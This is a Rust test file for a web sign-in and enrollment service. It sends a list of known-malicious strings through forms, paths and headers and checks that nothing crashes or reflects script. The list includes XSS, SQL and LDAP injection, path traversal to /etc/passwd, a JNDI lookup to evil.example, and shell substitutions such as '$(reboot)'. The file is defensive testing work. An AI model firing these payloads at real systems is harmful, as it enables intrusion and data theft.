//! Whatever is sent: no page of ours breaks, and nothing of it runs in a browser.

use axum::body::Body;
use proptest::prelude::*;
use vestibule_enroll_web::{Method, table};

use crate::house::{House, PASSWORD};

/// Texts that broke others before.
const NAUGHTY: [&str; 30] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' OR '1'='1",
    "'; DROP TABLE people; --",
    "*)(uid=*))(|(uid=*",
    "CN=x,DC=y\\00",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "%2e%2e%2f",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "{ $label }",
    "$(reboot)",
    "`id`",
    "| cat /etc/passwd",
    "\u{202e}txt.exe",
    "\u{feff}ada",
    "\u{200b}",
    "a\u{0301}\u{0301}\u{0301}\u{0301}\u{0301}\u{0301}",
    "ｆｕｌｌｗｉｄｔｈ",
    "١٢٣٤٥٦",
    "１２３４５６",
    "👩‍💻👨‍👩‍👧‍👦",
    "ﷺ",
    "Ω≈ç√∫˜µ≤≥÷",
    "NULL",
    "-1",
    "9999999999999999999999999999",
    "1e309",
    "\u{fffd}\u{ffff}\u{10ffff}",
];

#[test]
fn naughty_texts_in_every_field_break_nothing() {
    let house = House::new();
    let (browser, phone) = house.signed_in("ada");
    let mut browser = browser;
    browser.get("/account/add").shown();
    for text in NAUGHTY.into_iter().chain([" ".repeat(9).as_str(), "x".repeat(5_000).as_str()]) {
        let mut stranger = house.browser();
        stranger.begin(text, text).sent_to("/sign-in/code");
        stranger.get("/sign-in/code").shown();
        stranger.post("/sign-in/code", &[("code", text)]).is(403).says_nothing_of("<script>alert");
        house.advance(30);
        let fields =
            [("label", text), ("code", text), ("first", text), ("second", text), ("language", text), ("page", text)];
        for route in table().iter().filter(|route| route.method == Method::Post && !route.path.contains("sign-out")) {
            let page = browser.post(&route.path.replace("{id}", &phone.id), &fields);
            assert!(!page.status.is_server_error(), "{} {text:?}", route.path);
            page.says_nothing_of("<script>alert").says_nothing_of("<img src=x");
        }
        let path = format!("/{}", text.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>());
        browser.get(&path.chars().take(4_000).collect::<String>()).is(404);
        browser.get("/account").shown().says_nothing_of("<script>alert").says_nothing_of("<img src=x");
    }
}

#[test]
fn naughty_headers_break_nothing() {
    let house = House::new();
    for name in [
        "accept-language",
        "cookie",
        "x-forwarded-for",
        "x-forwarded-proto",
        "forwarded",
        "referer",
        "range",
        "if-none-match",
        "content-length",
        "transfer-encoding",
        "x-original-url",
        "x-rewrite-url",
        "x-http-method-override",
    ] {
        for value in
            ["", ",", "/account", "POST", "\u{e9}", "a=b; __Host-session=\u{e9}", "bytes=0-", "*", "q=0.5;;;", "-1"]
        {
            let mut browser = house.browser();
            let request = browser.request("GET", "/account").header(name, value.as_bytes());
            let page = browser.send(request.body(Body::empty()).unwrap());
            page.sent_to("/sign-in");
        }
    }
    let mut browser = house.browser();
    browser.cookies.insert("__Host-language".to_owned(), "../../de".to_owned());
    browser.get("/sign-in").shown().says("lang=\"en\"");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]

    #[test]
    fn no_path_and_no_body_stops_it(
        path in "/[!-~]{0,60}",
        body in prop::collection::vec(any::<u8>(), 0..300),
        post in any::<bool>(),
    ) {
        let house = House::new();
        let mut browser = house.browser();
        let (builder, body) = if post {
            (browser.form(&path), Body::from(body))
        } else {
            (browser.request("GET", &path), Body::empty())
        };
        if let Ok(request) = builder.body(body) {
            let page = browser.send(request);
            prop_assert!(!page.status.is_server_error());
        }
    }

    #[test]
    fn no_form_of_a_stranger_stops_it_or_lets_anybody_in(
        body in prop::collection::vec(any::<u8>(), 0..300),
        which in any::<prop::sample::Index>(),
    ) {
        let house = House::new();
        let _ada = house.enrolled("ada");
        let mut browser = house.browser();
        browser.begin("ada", PASSWORD).sent_to("/sign-in/code");
        let forms: Vec<_> = table().into_iter().filter(|route| route.method == Method::Post).collect();
        let path = forms[which.index(forms.len())].path.replace("{id}", &"a".repeat(32));
        let request = browser.form(&path).body(Body::from(body)).unwrap();
        let page = browser.send(request);
        prop_assert!(page.status.is_client_error(), "{path} {}", page.status);
        prop_assert_eq!(house.web.counts().signed_in, 0);
    }
}
